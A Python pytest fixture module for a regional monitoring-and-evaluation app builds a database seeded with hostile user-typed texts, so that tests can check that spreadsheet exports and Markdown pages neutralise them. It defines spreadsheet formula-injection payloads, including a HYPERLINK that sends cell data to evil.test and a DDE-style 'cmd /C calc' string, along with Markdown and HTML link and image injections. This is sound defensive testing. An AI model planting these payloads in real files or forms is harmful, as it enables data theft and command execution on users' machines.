"""A database whose user-typed texts are hostile: formula starts for the downloads, Markdown
for the pages. Every text enters the way a user would put it there: typed on the sign-in form
(an unknown user name lands in the audit trail), written in the cells of a real masterplan and
quarterly report (as string cells, as Excel stores text typed after an apostrophe) loaded
through the real loader, as the name of the uploaded file and the uploader, and as the title,
chair and decision of an evaluation meeting (made by an account with a hostile name)."""

from __future__ import annotations

import io
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from monev.engine.meeting import current_rules
from monev.store import accounts
from monev.store import meetings as store
from tests.app.dbs import copy_database
from tests.helpers import (
    MASTERPLAN_INFO,
    MASTERPLAN_ROWS,
    MP_AT,
    REGION,
    Env,
    report_bytes,
    workbook_bytes,
)

# Each text starts like a formula (=, +, -, @, tab, full width) and carries Markdown that
# would fetch an address or show a link if drawn as Markdown.
USER = '=HYPERLINK("http://evil.test/?u="&A1,"![u](http://evil.test/u.png)")'
UPLOADER = "@SUM(1+1)*cmd|' /C calc'!A0 [klik](http://evil.test/up)"
KENDALA = '=HYPERLINK("http://evil.test/k","![k](http://evil.test/k.png)")'
TINDAK_LANJUT = "+1+1 [klik di sini](http://evil.test/tl) `kode` **tebal** $x$"
# a file name holds no '/' (the loader keeps the part after the last one)
FILE_NAME = "-2+3 ![f](https:evil.test) `x` [klik](evil.test) $y$.xlsx"
PROGRAM = ("\t=1+1 Satu Data <a href='http://evil.test/p'>klik</a> ![p](http://evil.test/p.png) "
           "<img src=http://evil.test/i.png>")
OPD_SHORT = "\uff1dKominfo <a href='http://evil.test/o'>klik</a> :red[merah] [k](http://evil.test)"
INDICATOR = "-Dataset www.evil.test surat@evil.test ![i](http://evil.test/ind.png)"
MEETING_TITLE = "=Rapat ![m](http://evil.test/m.png) # judul"
CHAIR = "[Sekda](http://evil.test/c) <a href='http://evil.test/a'>a</a>"
DECISION = "@Ganti server ![d](http://evil.test/d.png)"

# the texts that the spreadsheet downloads must carry, neutralised
FORMULA_TEXTS = (USER, UPLOADER, KENDALA, TINDAK_LANJUT, FILE_NAME, PROGRAM, OPD_SHORT,
                 INDICATOR, MEETING_TITLE, DECISION)
REPORT_AT = datetime(2025, 4, 8, 9, 0)
MEETING_AT = datetime(2025, 4, 20, 9, 0)


def typed_as_text(data: bytes, texts: dict[str, str]) -> bytes:
    """The workbook with every cell whose value is a key of ``texts`` holding the mapped
    text as a string cell (what Excel saves for text typed after an apostrophe)."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in texts:
                    cell.value = texts[cell.value]
                    cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _masterplan() -> bytes:
    rows = {**MASTERPLAN_ROWS,
            "opd": [{**r, "singkatan": "TOKEN_OPD"} if r["kode_opd"] == "KOMINFO" else r
                    for r in MASTERPLAN_ROWS["opd"]],
            "program": [{**r, "nama_program": "TOKEN_PROGRAM"} if r["kode_program"] == "GOV-01"
                        else r for r in MASTERPLAN_ROWS["program"]],
            "indikator": [{**r, "nama_indikator": "TOKEN_INDICATOR"}
                          if r["kode_indikator"] == "GOV-01.1" else r
                          for r in MASTERPLAN_ROWS["indikator"]]}
    data = workbook_bytes("masterplan", MASTERPLAN_INFO, rows, meta={"kode_wilayah": REGION})
    return typed_as_text(data, {"TOKEN_OPD": OPD_SHORT, "TOKEN_PROGRAM": PROGRAM,
                                "TOKEN_INDICATOR": INDICATOR})


def build_hostile(path: Path) -> Path:
    """The database described in the module docstring (TW I 2025: Diskominfo's GOV-01 is
    critical and carries the hostile kendala and tindak lanjut)."""
    env = Env(path)
    try:
        result = env.load(_masterplan(), "masterplan.xlsx", at=MP_AT,
                          received_on=MP_AT.date())
        assert result.status == "loaded", [i.text() for i in result.issues]
        report = report_bytes(env.con, "KOMINFO", 2025, 1, {
            "realisasi": {"GOV-01.1": {"realisasi": 5}, "GOV-01.2": {"realisasi": 6}},
            "fisik": {"GOV-01": {"fisik": 10, "kendala": "TOKEN_KENDALA",
                                 "tindak_lanjut": "TOKEN_TL"}}})
        report = typed_as_text(report, {"TOKEN_KENDALA": KENDALA, "TOKEN_TL": TINDAK_LANJUT})
        result = env.load(report, FILE_NAME, actor=UPLOADER, at=REPORT_AT,
                          received_on=REPORT_AT.date())
        assert result.status == "loaded", [i.text() for i in result.issues]
        user, _ = accounts.sign_in(env.con, USER, "bukan-kata-sandi")
        assert user is None
        meeting = store.create_meeting(env.con, REGION, 2025, 1, title=MEETING_TITLE,
                                       actor=USER, rules=current_rules(env.con, REGION),
                                       chair=CHAIR, cutoff=MEETING_AT, now=MEETING_AT)
        store.add_followup(env.con, meeting.meeting_id, item_label=KENDALA, decision=DECISION,
                           actor=USER, opd_code="KOMINFO", due_date=date(2025, 6, 30),
                           program_code="GOV-01")
    finally:
        env.close()
    return path


@pytest.fixture(scope="module", name="built")
def built_hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile database, built once per test module."""
    return build_hostile(tmp_path_factory.mktemp("hostile") / "monev.duckdb")


@pytest.fixture(name="hostile")
def hostile_app(built: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The app pointed at a private copy of the hostile database."""
    path = copy_database(built, tmp_path / "db" / "monev.duckdb")
    monkeypatch.setenv("MONEV_DB", str(path))
    return path
